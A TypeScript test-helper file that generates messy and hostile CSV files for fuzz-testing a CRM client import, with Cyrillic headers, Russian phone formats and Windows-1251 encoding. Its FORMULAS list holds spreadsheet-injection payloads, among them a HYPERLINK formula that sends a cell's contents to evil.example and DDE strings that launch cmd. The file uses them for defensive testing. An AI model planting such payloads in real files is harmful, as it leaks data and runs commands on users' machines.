import fc from "fast-check";

// fast-check generators for client CSV files as offices produce them (Excel's Windows-1251 with
// ";", Google Sheets' UTF-8 with ","), and hostile ones. Used by the CSV import fuzz test.

export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=1+1",
  "+cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A2)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|'/C notepad'!'A1'",
];

export const HEADER_NAMES = {
  name: ["Имя", "ФИО", "Name", "Client name", "Клиент"],
  phones: ["Телефон", "Телефоны", "Phone", "Телефон 2", "Mobile"],
  company: ["Компания", "Company", "Организация"],
  email: ["Email", "E-mail", "Почта"],
  tags: ["Теги", "Tags"],
  isVip: ["VIP", "вип"],
  notes: ["Заметки", "Notes", "Комментарий"],
  manager: ["Менеджер", "Manager", "Email менеджера"],
} as const;
export type Field = keyof typeof HEADER_NAMES;

/** A national Russian mobile number, unique per call (so rows never collide by accident). */
let phoneSeq = 0;
export function freshNational(): string {
  phoneSeq++;
  return `9${String(phoneSeq).padStart(9, "0")}`;
}

/** The ways people write one number; all normalise to +7 and the 10 national digits. */
export const phoneWriting = fc.constantFrom(
  (n: string) => `+7${n}`,
  (n: string) => `8 (${n.slice(0, 3)}) ${n.slice(3, 6)}-${n.slice(6, 8)}-${n.slice(8)}`,
  (n: string) => `+7 ${n.slice(0, 3)} ${n.slice(3, 6)} ${n.slice(6)}`,
  (n: string) => n,
  (n: string) => `7${n}`,
);

const hostileCell = fc.oneof(
  fc.constantFrom(...FORMULAS),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: "binary-ascii", maxLength: 40 }),
  fc.constantFrom(
    '"',
    '""',
    'a"b',
    '"unterminated',
    "a;b",
    "a,b",
    "line\r\nbreak",
    "\ufeff",
    "\u0000",
  ),
  fc
    .tuple(fc.constantFrom("x", "я", "😀", "\u0000"), fc.integer({ min: 150, max: 6000 }))
    .map(([unit, n]) => unit.repeat(n)),
);

const phoneCell = fc.oneof(
  phoneWriting.map((write) => write(freshNational())),
  fc.constantFrom("+7 495 111-22-33", "123", "abc", "+7 916", "8-800", "+++", "=1+1", ""),
  fc.constantFrom("+79161234567, +79161234567", "+79161234567; 89161234567", "+1 202 555 0100"),
  fc
    .array(phoneWriting, { minLength: 2, maxLength: 12 })
    .map((ws) => ws.map((w) => w(freshNational())).join(", ")),
  hostileCell,
);

const cellFor: Record<Field, fc.Arbitrary<string>> = {
  name: fc.oneof(fc.constantFrom("Иван Петров", "ООО «Ромашка»", "Acme Ltd", ""), hostileCell),
  phones: phoneCell,
  company: fc.oneof(fc.constant(""), fc.constantFrom('ООО "Север"', "ИП Иванов"), hostileCell),
  email: fc.oneof(fc.constantFrom("", "a@b.ru", "A@B.RU", "a@", "@b", "a b@c.d"), hostileCell),
  tags: fc.oneof(
    fc.constantFrom("", "опт, vip", "a;b|c"),
    fc.array(fc.constantFrom("t", "x".repeat(41)), { maxLength: 25 }).map((t) => t.join(",")),
    hostileCell,
  ),
  isVip: fc.oneof(fc.constantFrom("", "да", "нет", "yes", "no", "+", "-", "maybe"), hostileCell),
  notes: fc.oneof(fc.constantFrom("", "line 1\nline 2", 'say "hi"'), hostileCell),
  manager: fc.constantFrom("", "manager@acme.test", "MANAGER@ACME.TEST", "nobody@acme.test", "=1"),
};

export type CsvShape = {
  delimiter: ";" | ",";
  newline: "\r\n" | "\n" | "\r";
  bom: boolean;
  cp1251: boolean;
  quoteAll: boolean;
  header: string[];
  rows: string[][];
  trailing: string;
};

const fields = Object.keys(HEADER_NAMES) as Field[];

/** A CSV file of any shape: random columns (maybe without name or phone), cells and framing. */
export const hostileCsv: fc.Arbitrary<CsvShape> = fc
  .record({
    columns: fc.array(fc.oneof(fc.constantFrom(...fields), fc.constant(null)), {
      minLength: 1,
      maxLength: 9,
    }),
    rowCount: fc.integer({ min: 0, max: 12 }),
    delimiter: fc.constantFrom(";" as const, "," as const),
    newline: fc.constantFrom("\r\n" as const, "\n" as const, "\r" as const),
    bom: fc.boolean(),
    cp1251: fc.boolean(),
    quoteAll: fc.boolean(),
    trailing: fc.constantFrom("", "\r\n", "\n\n\n", ";;;", "\u0000"),
  })
  .chain((shape) =>
    fc.record({
      delimiter: fc.constant(shape.delimiter),
      newline: fc.constant(shape.newline),
      bom: fc.constant(shape.bom),
      cp1251: fc.constant(shape.cp1251),
      quoteAll: fc.constant(shape.quoteAll),
      trailing: fc.constant(shape.trailing),
      header: fc.tuple(
        ...shape.columns.map((f) =>
          f
            ? fc.constantFrom(...HEADER_NAMES[f])
            : fc.oneof(fc.constantFrom("", "Unknown", "=cmd"), hostileCell),
        ),
      ),
      rows: fc.array(
        fc.tuple(...shape.columns.map((f) => (f ? cellFor[f] : hostileCell))).map((r) => [...r]),
        { minLength: shape.rowCount, maxLength: shape.rowCount },
      ),
    }),
  );

function quoteCell(value: string, shape: Pick<CsvShape, "delimiter" | "quoteAll">): string {
  // An unterminated quote is kept raw: the parser must cope with broken files too.
  if (value.startsWith('"unterminated')) return value;
  const needs = shape.quoteAll || /["\r\n]/.test(value) || value.includes(shape.delimiter);
  return needs ? `"${value.replaceAll('"', '""')}"` : value;
}

/** Windows-1251 for ASCII and Cyrillic (without Ё/ё); null when the text has anything else. */
export function encodeCp1251(text: string): Uint8Array | null {
  const bytes: number[] = [];
  for (const ch of text) {
    const code = ch.codePointAt(0) ?? 0;
    if (code < 0x80) bytes.push(code);
    else if (code >= 0x410 && code <= 0x44f) bytes.push(code - 0x410 + 0xc0);
    else return null;
  }
  return Uint8Array.from(bytes);
}

export function renderCsv(shape: CsvShape): Uint8Array {
  const lines = [shape.header, ...shape.rows].map((row) =>
    row.map((cell) => quoteCell(cell, shape)).join(shape.delimiter),
  );
  const text = lines.join(shape.newline) + shape.trailing;
  const legacy = shape.cp1251 && !shape.bom ? encodeCp1251(text) : null;
  if (legacy) return legacy;
  const utf8 = new TextEncoder().encode(text);
  if (!shape.bom) return utf8;
  return Uint8Array.from([0xef, 0xbb, 0xbf, ...utf8]);
}
